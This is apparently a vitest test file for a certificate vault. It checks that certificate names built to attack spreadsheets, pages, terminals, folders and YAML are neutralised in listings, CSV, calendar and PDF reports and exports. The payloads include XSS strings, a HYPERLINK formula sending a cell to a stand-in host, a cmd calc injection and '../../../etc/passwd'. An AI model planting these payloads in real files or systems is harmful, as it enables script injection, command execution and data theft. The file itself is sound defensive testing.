import { spawnSync } from 'node:child_process';
import { mkdirSync, readdirSync, readFileSync } from 'node:fs';
import { basename } from 'node:path';
import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, test, vi } from 'vitest';
import type { CertificateRow } from '../../preload/contract/inventory.ts';
import { BackupBench } from './backup-bench.ts';
import { runHere } from './command-here.ts';
import { keytool, openssl } from './oracles.ts';
import { OFFICER } from './strongroom.ts';

vi.mock('../../main/crypto/argon2id.ts', async (original) => ({ ...(await original<object>()), ...(await import('./fast-derivation.ts')) }));
// Which would find that this is no Argon2id.
vi.mock('../../main/crypto/self-test.ts', async (original) => ({ ...(await original<object>()), selfTest: async () => undefined }));

// Names that a certificate's author chose so that they do something: to a spreadsheet, a page, a terminal, a folder, a YAML file.

const names = {
  script: '<script>alert(1)</script><img src=x onerror=alert(2)>',
  formula: `=HYPERLINK("http://x.example?"&A1;"y")`,
  command: "@SUM(1)|cmd' /C calc'!A0",
  path: '../../../etc/passwd',
  turned: 'safe\u202eexe.example\u2066\u061c',
  lines: 'two\r\nlines\tand\u001b[2Jan escape\u009b2J\u0007',
  yaml: 'x: {"y": [*a]}\n---\nkind: Pod # !!js',
  device: 'con.example',
} as const;
/** What neither a page for people nor a terminal may get. */
const acting = /[^\P{Cc}\n]|[\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]/u;

const bench = new BackupBench();
const vault = bench.path('vault');
let items: CertificateRow[];

/** A pair whose every field says it, as far as the field's type can (X.520: PrintableString, IA5String, the rest UTF-8). */
function certificate(id: string, name: string): void {
  const escaped = name.replace(/[\\/+]/g, '\\$&');
  const short = [...name]
    .slice(0, 60)
    .join('')
    .replace(/[\\/+]/g, '\\$&');
  const subject = `/C==1/ST=${escaped}/L=${escaped}/O=${short}/OU=${short}/CN=${short}/serialNumber==1\\+1/emailAddress=<b>x@x.example`;
  const sans = 'subjectAltName=DNS:<img src=x onerror=alert(3)>,DNS:=1+1,email:=cmd|x@x.example,URI:javascript:alert(4)';
  const key = ['-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:P-256', '-nodes', '-keyout', bench.path(`${id}.key`)];
  openssl('req', '-x509', '-utf8', ...key, '-subj', subject, '-addext', sans, '-days', '90', '-out', bench.path(`in/${id}.crt`));
}

/** What the command says to people, and to those who look at its errors. */
async function told(...args: string[]): Promise<string> {
  const { status, stdout, stderr } = await runHere(...args, '--vault', vault, '--password-file', bench.passwordFile);
  expect(status).toBe(0);
  return stdout + stderr;
}

beforeAll(async () => {
  mkdirSync(bench.path('in'));
  bench.write('passphrase', 'changeit\n');
  const store = ['-passout', 'pass:changeit'];
  for (const [id, name] of Object.entries(names)) {
    certificate(id, name);
    const pair = ['-inkey', bench.path(`${id}.key`), '-in', bench.path(`in/${id}.crt`)];
    openssl('pkcs12', '-export', ...pair, '-name', name, '-caname', name, ...store, '-out', bench.path(`in/${id}.p12`));
  }
  const from = ['-srckeystore', bench.path('in/script.p12'), '-srcstorepass', 'changeit', '-srcalias', names.script];
  const into = ['-destkeystore', bench.path('in/script.jks'), '-deststoretype', 'JKS', '-deststorepass', 'changeit', '-destalias', names.formula];
  keytool('-importkeystore', '-noprompt', ...from, ...into);
  await bench.answer(0, vault, 'create', '--officer', OFFICER);
  await bench.answer(0, vault, 'import', bench.path('in'), '--passphrase-file', bench.path('passphrase'));
  ({ items } = await bench.answer<{ items: CertificateRow[] }>(0, vault, 'certificates'));
});

test('each is in the vault as it was written, with its key', () => {
  const shortened = Object.values(names).map((name) => [...name].slice(0, 60).join(''));
  expect(items.map(({ commonName }) => commonName).toSorted()).toEqual(shortened.toSorted());
  expect(items.every(({ privateKey }) => privateKey === 'in-store')).toBe(true);
  expect(items[0]?.subjectAltNames.map(({ value }) => value)).toEqual(expect.arrayContaining(['<img src=x onerror=alert(3)>', '=1+1']));
});

test('none of them does anything to a terminal', async () => {
  const lists = [await told('certificates'), await told('commands'), await told('audit', 'list', '--limit', '500')];
  for (const { id } of items) lists.push(await told('show', id));
  for (const text of lists) expect(text).not.toMatch(acting);
  // A name that has line ends is one line all the same.
  expect(lists[0]).toContain('two\ufffd\ufffdlines\ufffdand\ufffd[2Jan escape\ufffd2J\ufffd');
  expect(lists[0]?.trimEnd().split('\n')).toHaveLength(items.length + 3);
  expect((await bench.answer<{ subject: string }>(0, vault, 'show', items[0]?.id as string)).subject).toContain('=1');
});

describe('a report', () => {
  test('as a table has no formula in any cell, however a spreadsheet cuts it', async () => {
    await bench.answer(0, vault, 'report', '--format', 'csv', '--out', bench.path('report.csv'));
    const text = readFileSync(bench.path('report.csv'), 'utf8');
    const rows = parse(text) as string[][];
    expect(rows).toHaveLength(items.length + 1);
    expect(text.replaceAll('\r\n', '\n')).not.toMatch(/[^\P{Cc}\n]|[\u2028\u2029]/u);
    expect(rows.flat().filter((cell) => /^\s*[=+\-@]/.test(cell))).toEqual([]);
    expect(text.split(/[;\n]/).filter((cell) => /^[\s"]*[=+\-@]/.test(cell))).toEqual([]);
    expect(rows.map(([name]) => name)).toContain(names.script);
  });

  test('as a calendar has an event for each and no line of theirs', async () => {
    await bench.answer(0, vault, 'report', '--format', 'ics', '--out', bench.path('report.ics'));
    const lines = readFileSync(bench.path('report.ics'), 'utf8').replaceAll('\r\n ', '').split('\r\n');
    expect(lines.filter((line) => line === 'BEGIN:VEVENT')).toHaveLength(items.length);
    expect(lines.filter((line) => line !== '' && !/^[A-Z-]+[:;]/.test(line))).toEqual([]);
    expect(lines.join('')).not.toMatch(/\p{Cc}/u);
  });

  test('for print shows them and runs nothing', async () => {
    await bench.answer(0, vault, 'report', '--format', 'pdf', '--out', bench.path('report.pdf'));
    const text = String(spawnSync('pdftotext', ['-layout', bench.path('report.pdf'), '-']).stdout);
    expect(text).toContain('<script>alert(1)</script>');
    expect(text).toContain('../../../etc/passwd');
    expect(readFileSync(bench.path('report.pdf'), 'latin1')).not.toMatch(/\/(JS|JavaScript|URI|Launch|OpenAction|Annots)\b/);
  });
});

const released = {
  modern: ['--passphrase-file', bench.path('passphrase')],
  java: ['--passphrase-file', bench.path('passphrase')],
  nginx: ['--passphrase-file', bench.path('passphrase')],
  kubernetes: ['--plain'],
};

describe.each(Object.entries(released))('released for %s', (target, protection) => {
  const out = bench.path(`out-${target}`);
  let inside: string[];
  beforeAll(async () => {
    const before = readdirSync(bench.folder);
    await bench.answer(0, vault, 'export', ...items.map(({ id }) => id), '--target', target, ...protection, '--out', out);
    expect(readdirSync(bench.folder).filter((name) => !before.includes(name))).toEqual([basename(out)]);
    inside = readdirSync(out, { recursive: true }).map(String);
  });

  test('they are in file names as letters and dashes, in the folder and nowhere else', () => {
    const own = inside.filter((name) => !['SHA256SUMS', 'release-report.pdf'].includes(name));
    expect(own.length).toBeGreaterThanOrEqual(items.length);
    for (const name of own) expect(name).toMatch(/^[a-z0-9][a-z0-9._-]*(\/tls\.(crt|key))?$/);
    for (const name of own) expect(name).not.toMatch(/^con\b|\.\./);
  });

  test('the manifest has a line for each file', () => {
    const { status, stderr } = spawnSync('sha256sum', ['-c', '--strict', '--quiet', 'SHA256SUMS'], { cwd: out });
    expect(status, String(stderr)).toBe(0);
    const lines = readFileSync(`${out}/SHA256SUMS`, 'utf8').trimEnd().split('\n');
    for (const line of lines) expect(line).toMatch(/^[0-9a-f]{64} {2}[A-Za-z0-9._/-]+$/);
    expect(lines.length).toBeGreaterThan(items.length);
  });

  if (target === 'kubernetes')
    test('a Secret is called by a name that Kubernetes takes, and has one document of known lines', () => {
      const secrets = inside.filter((name) => name.endsWith('.secret.yaml'));
      expect(secrets).toHaveLength(items.length);
      for (const secret of secrets) {
        const lines = readFileSync(`${out}/${secret}`, 'utf8').trimEnd().split('\n');
        expect(lines).toHaveLength(8);
        expect(lines[4]).toMatch(/^ {2}name: "[a-z0-9]([-a-z0-9]{0,61}[a-z0-9])?"$/);
        for (const line of lines) expect(line).toMatch(/^ {0,2}[\w.]+:( ["\w/+=.-]+)?$/);
      }
    });
});
